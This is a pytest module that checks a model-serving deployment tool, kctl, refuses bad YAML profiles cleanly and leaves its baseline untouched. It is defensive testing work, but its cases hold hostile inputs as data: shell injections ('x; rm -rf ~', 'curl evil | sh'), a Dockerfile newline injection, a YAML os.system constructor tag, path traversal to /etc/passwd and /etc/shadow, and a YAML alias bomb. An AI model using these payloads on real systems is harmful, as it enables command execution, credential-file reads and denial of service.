"""Bad profiles handed to ``kctl deploy``: each is refused with exit 2 and a message that
names the file and the field (or the line), before anything touches the host.

All cases share one served baseline (its own state dir and port): a bad profile is a
candidate that extends the valid ``cand.yaml`` on that port and gated against it, so any
change it made would show on the port, in the processes or in the store; after each case
the same baseline process serves and ``kctl history`` is unchanged. Profiles kctl once
accepted (alias bomb, huge file, metacharacters in host or image, abbreviated or aliased
SGLang flags, paths outside the repository, infinite or huge numbers) are marked
``known_defect`` with issue 33's number.
"""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.faults.harness import BASE_NAME, Case

pytestmark = pytest.mark.slow

X = "extends: cand.yaml\n"

# (id, file content, substrings the refusal must contain besides the file name)
CASES: list[tuple[str, str | bytes, tuple[str, ...]]] = [
    (
        "yaml-syntax",
        X + "server:\n  port: 1\n   host: x\n",
        ("line 4, column 8: invalid YAML: mapping values are not allowed here",),
    ),
    ("yaml-tab", X + "server:\n\tport: 1\n", ("line 3, column 1: invalid YAML", "'\\t'")),
    (
        "yaml-duplicate-key",
        X + "gate:\n  repeats: 1\n  repeats: 2\n",
        ("invalid YAML: found duplicate key 'repeats' (first at line 3)",),
    ),
    (
        "yaml-python-tag",
        X + 'description: !!python/object/apply:os.system ["touch PWNED"]\n',
        ("invalid YAML: could not determine a constructor", "python/object/apply:os.system"),
    ),
    (
        "not-utf8",
        (X + 'description: "caf\xe9"\n').encode("latin-1"),
        ("not UTF-8 text (byte 0xe9)", "save the file as UTF-8"),
    ),
    ("empty-file", "", ("the file is empty",)),
    ("top-level-list", "- server\n", ("(top level): must be a mapping",)),
    (
        "unknown-key",
        X + "server:\n  portt: 1\n",
        ("server.portt: unknown key; did you mean 'port'?",),
    ),
    ("unknown-section", X + "whatever: 1\n", ("whatever: unknown key; valid keys:",)),
    (
        "wrong-type-int",
        X + "gate:\n  repeats: three\n",
        ("gate.repeats: must be an integer from 1 to 1000 (got 'three')",),
    ),
    (
        "wrong-type-bool",
        X + "server:\n  cuda_graphs: 'no'\n",
        ("server.cuda_graphs: must be true or false (got 'no')",),
    ),
    ("yes-as-port", X + "server:\n  port: yes\n", ("server.port: must be a TCP port", "True")),
    ("wrong-type-list", X + "gate:\n  contexts: 23000\n", ("gate.contexts:",)),
    (
        "port-out-of-range",
        X + "server:\n  port: 70000\n",
        ("server.port: must be a TCP port between 1 and 65535 (got 70000)",),
    ),
    (
        "speedup-out-of-range",
        X + "simulator:\n  speedup: 0.5\n",
        ("simulator.speedup: must be a number >= 1", "(got 0.5)"),
    ),
    ("nan", X + "health:\n  deadline_s: .nan\n", ("health.deadline_s: must be a positive number",)),
    (
        "negative-context",
        X + "gate:\n  contexts: [-1]\n",
        ("gate.contexts[0]: must be an integer from 1 to 4194304",),
    ),
    (
        "zero-ratio",
        X + "gate:\n  policy:\n    min_ratio: 0\n",
        ("gate.policy.min_ratio: must be a ratio > 0",),
    ),
    (
        "shell-metachar-name",
        X + "name: 'x; rm -rf ~'\n",
        ("name: must be letters, digits", "(got 'x; rm -rf ~')"),
    ),
    (
        "shell-metachar-env-name",
        X + "server:\n  env: {'A;touch PWNED': '1'}\n",
        ("server.env.A;touch PWNED: must be an environment variable name",),
    ),
    (
        "managed-flag",
        X + "server:\n  extra_args: ['--port=1']\n",
        ("server.extra_args[0]: SGLang 0.5.10: --port sets port, which kctl manages", "--port=1"),
    ),
    (
        "managed-flag-split",
        X + "server:\n  extra_args: ['--log-level', 'info', '--attention-backend', 'fa3']\n",
        ("server.extra_args[2]: SGLang 0.5.10: --attention-backend sets attention_backend",),
    ),
    (
        "sglang-overrides-draft-tokens",
        X + "server:\n  speculative: {num_draft_tokens: 8}\n",
        ("server.speculative.num_draft_tokens: must be num_steps + 1 (4)",),
    ),
    (
        "simulator-env-by-hand",
        X + "server:\n  env: {KCTL_SIM_SPEEDUP: '1000'}\n",
        ("server.env.KCTL_SIM_SPEEDUP: is set by kctl from simulator.speedup",),
    ),
    (
        "kernel-without-its-switch",
        X + "server:\n  env: {KDTREE_VERIFY: '0'}\n",
        ("server.env.KDTREE_VERIFY: server.verify_kernel is 'kdtree' on the triton backend",),
    ),
    (
        "unknown-runtime",
        X + "runtime:\n  kind: kubernetes\n",
        ("runtime.kind: must be one of",),
    ),
    (
        "relative-volume",
        X + "runtime:\n  volumes: [{host: models, container: /models}]\n",
        ("runtime.volumes[0].host: must be an absolute host path",),
    ),
    (
        "extends-missing",
        "extends: nope/base.yaml\n",
        ("extends: file not found:", "(got 'nope/base.yaml')"),
    ),
    ("extends-cycle", "extends: {self}\n", ("extends: cycle",)),
    (
        "extends-not-a-profile",
        "extends: notes.txt\n",
        ("notes.txt is not a kctl profile (its top level is a str",),
    ),
    (
        "extends-system-file",
        "extends: /etc/passwd\n",
        ("extends: /etc/passwd is not a kctl profile", "name a profile file"),
    ),
    (
        "baseline-system-file",
        X + "baseline: /etc/passwd\n",
        ("baseline: /etc/passwd is not a kctl profile", "name a profile file"),
    ),
    (
        "volume-host-climbs",
        X + "runtime:\n  volumes: [{host: /models/../../etc, container: /models}]\n",
        ("runtime.volumes[0].host: contains '..'", "(here '/etc', if that is what is meant)"),
    ),
    (
        "volume-container-climbs",
        X + "runtime:\n  volumes: [{host: /models, container: /models/../root}]\n",
        ("runtime.volumes[0].container: contains '..'",),
    ),
    (
        "secret-file-climbs",
        X + "server:\n  secrets: {HF_TOKEN: {file: /etc/kctl/../shadow}}\n",
        ("server.secrets.HF_TOKEN.file: contains '..'",),
    ),
    (
        "model-path-climbs",
        X + "server:\n  model_path: /models/../etc\n",
        ("server.model_path: contains '..'",),
    ),
    (
        "baseline-missing",
        X + "baseline: nope.yaml\n",
        ("baseline: file not found:", "(got 'nope.yaml')"),
    ),
]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Case, list[Any], list[int]]]:
    """One baseline serving for the whole module: (case, its history, its pids)."""
    case = Case(tmp_path_factory.mktemp("profiles"))
    try:
        case.establish()
        case.write("notes.txt", "a text file, not a profile\n")
        yield case, case.history(), case.servers()
    finally:
        case.cleanup()


@pytest.mark.parametrize(("content", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_profile_is_refused(
    served: tuple[Case, list[Any], list[int]],
    request: pytest.FixtureRequest,
    content: str | bytes,
    expected: tuple[str, ...],
) -> None:
    case, before, pids = served
    case.item = request.node
    name = f"{request.node.callspec.id}.yaml"
    if isinstance(content, str):
        content = content.replace("{self}", name)
    path = case.write(name, content)
    r = case.run("deploy", path)
    assert r.code == 2, str(r)
    # the file to edit: this one, or the one it names when that is the bad one
    assert name in r.err, str(r)
    assert "root:" not in r.err, str(r)  # a system file named by a profile is never shown
    for text in expected:
        assert text in r.err, f"{text!r} not in\n{r}"
    assert "Traceback" not in r.err and r.out == "", str(r)
    # nothing touched: the same baseline process serves, no other process, no record
    assert case.serving() == BASE_NAME
    assert case.servers() == pids
    assert not Path(case.tmp, "PWNED").exists()
    case.check_store(before)
    assert case.history() == before


def test_the_valid_candidate_validates(served: tuple[Case, list[Any], list[int]]) -> None:
    """The control: what the bad profiles extend is itself valid, so each refusal above
    is about the line the case adds."""
    case, _, _ = served
    r = case.run("validate", case.cand, case.base)
    assert r.code == 0, str(r)


# -- issue 33 (defects numbered as in its list; F: found by this suite) ---------------------


BOMB = (
    "extends: cand.yaml\n"
    + "".join(
        f"x-{lvl}: &{lvl} {{"
        + ", ".join(f"{k}: {'*' + prev if prev else 1}" for k in "abcdefghi")
        + "}\n"
        for prev, lvl in zip(["", *"abcdef"], "abcdefg")
    )
    + "description: *g\n"
)


#: runs a command and prints its peak RSS (KB): the wrapper is a small process, so the
#: command's fork starts small; measured from the test process itself, a fork of the large
#: pytest process would count the parent's pages as the child's
_PEAK_RSS = (
    "import resource, subprocess, sys\n"
    "code = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL).returncode\n"
    "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
    "sys.exit(code)\n"
)


def _measured(case: Case, *args: str, timeout: float = 10) -> tuple[int, str, float, float]:
    """(exit code, stderr, seconds, peak RSS in MB) of one kctl run."""
    t0 = time.monotonic()
    try:
        proc = subprocess.run(
            [sys.executable, "-c", _PEAK_RSS, *case.argv(*args)], capture_output=True,
            cwd=case.tmp, env=case.env, text=True, timeout=timeout,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        raise AssertionError(f"kctl {args} took more than {timeout} s") from None
    rss_kb = float(proc.stdout.strip().splitlines()[-1])
    return proc.returncode, proc.stderr, time.monotonic() - t0, rss_kb / 1024


@pytest.mark.known_defect("7")
def test_alias_bomb_refused_fast(case: Case) -> None:
    path = case.write("bomb.yaml", BOMB)
    code, err, seconds, rss = _measured(case, "deploy", path)
    assert code == 2 and "bomb.yaml" in err, err
    assert seconds < 3 and rss < 200, (seconds, rss)


@pytest.mark.known_defect("7")
def test_huge_profile_refused(case: Case) -> None:
    path = case.write("huge.yaml", "extends: cand.yaml\ndescription: '" + "x" * 50_000_000 + "'\n")
    code, err, _, _ = _measured(case, "deploy", path, timeout=60)
    assert code == 2 and "huge.yaml" in err, err
    assert case.serving() is None


#: profiles kctl once accepted (F5): each refused with exit 2 and the field
REFUSED_NOW: list[tuple[str, str, str]] = [
    ("host-metachar", "server:\n  host: '127.0.0.1; curl evil | sh'\n", "server.host"),
    (
        "served-name-metachar",
        "server:\n  served_model_name: 'x; reboot'\n",
        "server.served_model_name",
    ),
    ("image-base-newline", 'image:\n  base: "ubuntu\\nRUN curl evil | sh"\n', "image.base"),
    (
        "abbreviated-flag",
        "server:\n  extra_args: ['--mem-fraction', '0.5']\n",
        "server.extra_args[0]",
    ),
    ("kernel-source-up", "image:\n  kernel_source: ../../../etc\n", "image.kernel_source"),
    ("kernel-source-absolute", "image:\n  kernel_source: /etc\n", "image.kernel_source"),
    ("infinite-deadline", "health:\n  deadline_s: .inf\n", "health.deadline_s"),
    (
        "aliased-flag",
        "server:\n  extra_args: ['--tensor-parallel-size', '8']\n",
        "server.extra_args[0]",
    ),
    (
        "huge-output-tokens",
        "gate:\n  output_tokens: 100000000000000000000000\n",
        "gate.output_tokens",
    ),
]


@pytest.mark.known_defect("F5")
@pytest.mark.parametrize(
    ("text", "field"), [a[1:] for a in REFUSED_NOW], ids=[a[0] for a in REFUSED_NOW]
)
def test_once_accepted_bad_profile(case: Case, text: str, field: str) -> None:
    path = case.write("bad.yaml", "extends: cand.yaml\n" + text)
    r = case.run("deploy", path)
    assert r.code == 2, str(r)
    assert f"bad.yaml: {field}" in r.err, str(r)
    assert case.serving() is None
